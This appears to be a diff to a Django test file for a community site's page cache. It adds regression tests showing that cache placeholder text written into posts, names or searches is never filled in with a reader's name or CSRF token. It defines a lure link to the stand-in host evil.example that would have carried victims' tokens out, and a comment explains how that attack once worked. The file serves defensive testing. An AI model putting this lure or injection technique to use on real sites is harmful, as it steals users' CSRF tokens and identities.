@@ -9,6 +9,8 @@ token are never shared. One test runs the same against a real Redis.
 
 from __future__ import annotations
 
+import re
+
 import pytest
 from django.core.cache import cache, caches
 from django.core.cache.backends.locmem import LocMemCache
@@ -164,14 +166,26 @@ def test_muted_author_stays_hidden_with_the_cache_warm(personas, client_for, mak
     assert "Loud opinions" in client_for(personas["moderator"]).get(FEED).content.decode()
 
 
+PLACEHOLDER = re.compile(r"upw[0-9a-f]{32}(?:name|unread|csrf)")
+
+
+def _csrf_token(html: str) -> str:
+    return re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', html).group(1)
+
+
 def test_csrf_tokens_are_never_cached(personas, client_for, make_story):
     story = _story(make_story, personas["lead"])
     services.comment_create(actor=personas["moderator"], story=story, body="Answer me")
     page = reverse("community:story", args=[story.pk])
-    html = client_for(personas["member"]).get(page).content.decode()
-    assert caching.CSRF_PLACEHOLDER not in html
+    reader = client_for(personas["member"])
+    _warm(reader, page)
+    html = reader.get(page).content.decode()
+    assert not PLACEHOLDER.search(html)
     assert 'name="parent"' in html and 'name="csrfmiddlewaretoken" value=""' not in html
-    assert caching.CSRF_PLACEHOLDER in _text(_cached_values())
+    assert _csrf_token(html) not in _text(_cached_values())
+    # The cached comments and page know where a token goes, without holding one.
+    assert any(isinstance(v, caching.Holes) and caching.CSRF in v.slots
+               for v in _cached_values())
 
 
 def test_cache_failure_falls_back_to_the_database(personas, client_for, make_story,
@@ -230,9 +244,7 @@ def test_shared_pages_carry_each_viewers_own_name_and_token(personas, client_for
         assert "Member Persona" in first and "Other Reader" not in first
         assert "Other Reader" in second and "Member Persona" not in second
         for html in (first, second):
-            assert caching.NAME_PLACEHOLDER not in html
-            assert caching.UNREAD_PLACEHOLDER not in html
-            assert caching.CSRF_PLACEHOLDER not in html
+            assert not PLACEHOLDER.search(html)
 
 
 def test_search_own_posts_and_mutes_with_the_cache_warm(personas, client_for, make_story):
@@ -310,3 +322,106 @@ def test_a_new_name_reaches_every_cached_page(personas, client_for, make_story):
     for path in pages:
         html = reader.get(path).content.decode()
         assert "Renamed Person" in html and "Member Persona" not in html, path
+
+
+# --- text that looks like a placeholder -------------------------------------------------------
+
+# What the placeholders used to be: a member who wrote them into a post made every
+# reader's page carry that reader's name and CSRF token in the member's link.
+OLD_PLACEHOLDERS = ("__upward_viewer_name__", "__upward_csrf_placeholder__",
+                    "__upward_unread_badge__")
+LURE = ("https://evil.example/?n=__upward_viewer_name__&t=__upward_csrf_placeholder__"
+        "&u=__upward_unread_badge__")
+WORDS = " ".join(OLD_PLACEHOLDERS)  # 74 characters: fits a display name
+CODE = f"`{WORDS}`"  # Markdown keeps it literal in code, and search keeps code's words
+
+
+def _victim():
+    from upward.web.demo.factories import person
+
+    return person(roles=["member"], email="victim@northbridge.example",
+                  display_name="Vicky Victim")
+
+
+def _assert_untouched(html: str, *, link: bool = False, name_shown: int | None = 1,
+                      snippet: bool = False) -> None:
+    """The member's words are shown as written, and this reader's name and token only
+    where the page itself puts them. (A search snippet may show only some of the words:
+    PostgreSQL's ``ts_headline`` picks a fragment.)"""
+    assert not PLACEHOLDER.search(html)
+    shown = [placeholder for placeholder in OLD_PLACEHOLDERS if placeholder in html]
+    assert shown if snippet else shown == list(OLD_PLACEHOLDERS), shown
+    if link:
+        assert 'href="https://evil.example/?n=__upward_viewer_name__&amp;' \
+               't=__upward_csrf_placeholder__&amp;u=__upward_unread_badge__"' in html
+    if name_shown is not None:
+        assert html.count("Vicky Victim") == name_shown  # the header
+    for token in set(re.findall(r'name="csrfmiddlewaretoken" value="([^"]+)"', html)):
+        assert html.count(token) == html.count(f'name="csrfmiddlewaretoken" value="{token}"')
+
+
+def _post(kind: str, personas, make_story, category) -> list[tuple[str, bool]]:
+    """The member's post with the lure in it, and the pages that show it (each with
+    whether it shows the post's links)."""
+    member = personas["member"]
+    if kind == "comment":
+        story = _story(make_story, personas["lead"])
+        services.comment_create(actor=member, story=story, body=f"Look [here]({LURE}) {CODE}")
+        return [(reverse("community:story", args=[story.pk]), True)]
+    if kind == "story body":
+        story = _story(make_story, member, body=f"Look [here]({LURE}) {CODE}")
+        return [(reverse("community:story", args=[story.pk]), True),
+                (reverse("community:search") + "?q=tills", False)]
+    if kind == "story title":
+        story = _story(make_story, member, title=f"Tills {WORDS}")
+        return [(FEED, False), (reverse("community:story", args=[story.pk]), False),
+                (reverse("community:search") + "?q=tills", False)]
+    if kind == "discussion":
+        thread = services.thread_create(actor=member, category=category,
+                                        title=f"Quokkas {WORDS}", body=f"Quokkas {CODE}")
+        return [(reverse("community:search") + "?q=quokkas", False),
+                (reverse("community:thread", args=[thread.pk]), False)]
+    if kind == "reply":
+        thread = services.thread_create(actor=personas["lead"], category=category,
+                                        title="Wombats", body="Wombats")
+        services.reply_create(actor=member, thread=thread, body=f"Quokkas {CODE}")
+        return [(reverse("community:search") + "?q=quokkas", False),
+                (reverse("community:thread", args=[thread.pk]), False)]
+    if kind == "display name":
+        from upward.web.accounts.services import profile_update
+
+        profile_update(profile=member.profile, display_name=WORDS)
+        story = _story(make_story, member)
+        return [(FEED, False), (reverse("community:story", args=[story.pk]), False),
+                (reverse("community:search") + "?q=tills", False)]
+    assert kind == "search query"
+    return [(reverse("community:search") + "?q=" + WORDS.replace(" ", "+"), False)]
+
+
+@pytest.mark.parametrize("kind", ["comment", "story body", "story title", "discussion",
+                                  "reply", "display name", "search query"])
+def test_placeholder_text_in_what_members_write_is_never_filled_in(kind, personas,
+                                                                   client_for, make_story,
+                                                                   category):
+    victim = client_for(_victim())
+    for path, link in _post(kind, personas, make_story, category):
+        for _ in range(2):  # built (and cached), then served from the cache
+            response = victim.get(path)
+            assert response.status_code == 200, path
+            _assert_untouched(response.content.decode(), link=link,
+                              snippet="/search/" in path and kind != "search query")
+
+
+def test_placeholder_text_is_kept_for_a_reader_who_sees_comments_their_own_way(
+        personas, client_for, make_story):
+    """A reader who commented gets the comments rendered for them alone (around the
+    shared article): the lure in someone else's comment stays as written there too."""
+    story = _story(make_story, personas["lead"])
+    services.comment_create(actor=personas["member"], story=story,
+                            body=f"Look [here]({LURE}) {CODE}")
+    victim = _victim()
+    services.comment_create(actor=victim, story=story, body="My own comment")
+    client = client_for(victim)
+    for _ in range(2):
+        html = client.get(reverse("community:story", args=[story.pk])).content.decode()
+        _assert_untouched(html, link=True, name_shown=None)  # their comment's byline too
